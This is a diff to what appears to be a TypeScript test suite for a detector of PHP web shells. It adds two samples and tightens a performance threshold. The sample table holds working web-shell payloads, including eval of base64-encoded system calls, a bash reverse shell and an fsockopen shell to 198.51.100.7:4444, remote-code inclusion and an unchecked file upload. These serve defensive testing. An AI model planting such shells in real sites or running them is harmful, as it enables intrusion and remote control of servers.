@@ -27,6 +27,7 @@ const shells: readonly (readonly [string, string, number])[] = [
   ['packed', `<?php eval(base64_decode('${Buffer.from('system($_GET["c"]);').toString('base64')}'));`, 0.9],
   ['behind a comment', '<?php /* a form */ // $_GET\n system # shown\n ($_GET["c"]);', 0.9],
   ['a function of its own', '<?php function run($x) { return shell_exec($x); } echo run($_GET["c"]);', 0.75],
+  ['a function in other letters', '<?php function Run($x) { system($x); } RUN($_GET["c"]);', 0.75],
   ['a method of its own', '<?php class A { function f($c) { @eval($c); } } (new A)->f($_REQUEST["x"]);', 0.75],
   ['variables set together', '<?php [$f, $a] = [$_GET["f"], $_GET["a"]]; $f($a);', 0.75],
   ['a query that is taken apart', '<?php parse_str(file_get_contents("php://input"), $p); system($p["c"]);', 0.8],
@@ -42,6 +43,7 @@ const shells: readonly (readonly [string, string, number])[] = [
   ['code from elsewhere', '<?php eval("?>" . file_get_contents("http://198.51.100.7/a.txt"));', 0.75],
   ['a shell for an address', '<?php exec("/bin/bash -c \'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\'");', 0.75],
   ['a socket that becomes a shell', '<?php $s = fsockopen("198.51.100.7", 4444); proc_open("/bin/sh -i", [$s, $s, $s], $x);', 0.75],
+  ['an upload under its own name', '<?php move_uploaded_file($_FILES["f"]["tmp_name"], $_FILES["f"]["name"]);', 0.3],
   ['reflection', '<?php (new ReflectionFunction($_GET["f"]))->invoke($_GET["c"]);', 0.65],
 ]; // prettier-ignore
 
@@ -115,6 +117,6 @@ describe('PHP that runs what a request brings', () => {
       'eval(file_get_contents(',
       '\\x',
     ];
-    expect(parts.filter((part) => used(part.repeat(2 ** 16 / part.length)) > 2.5)).toEqual([]);
+    expect(parts.filter((part) => used(part.repeat(2 ** 16 / part.length)) > 1.5)).toEqual([]);
   });
 });
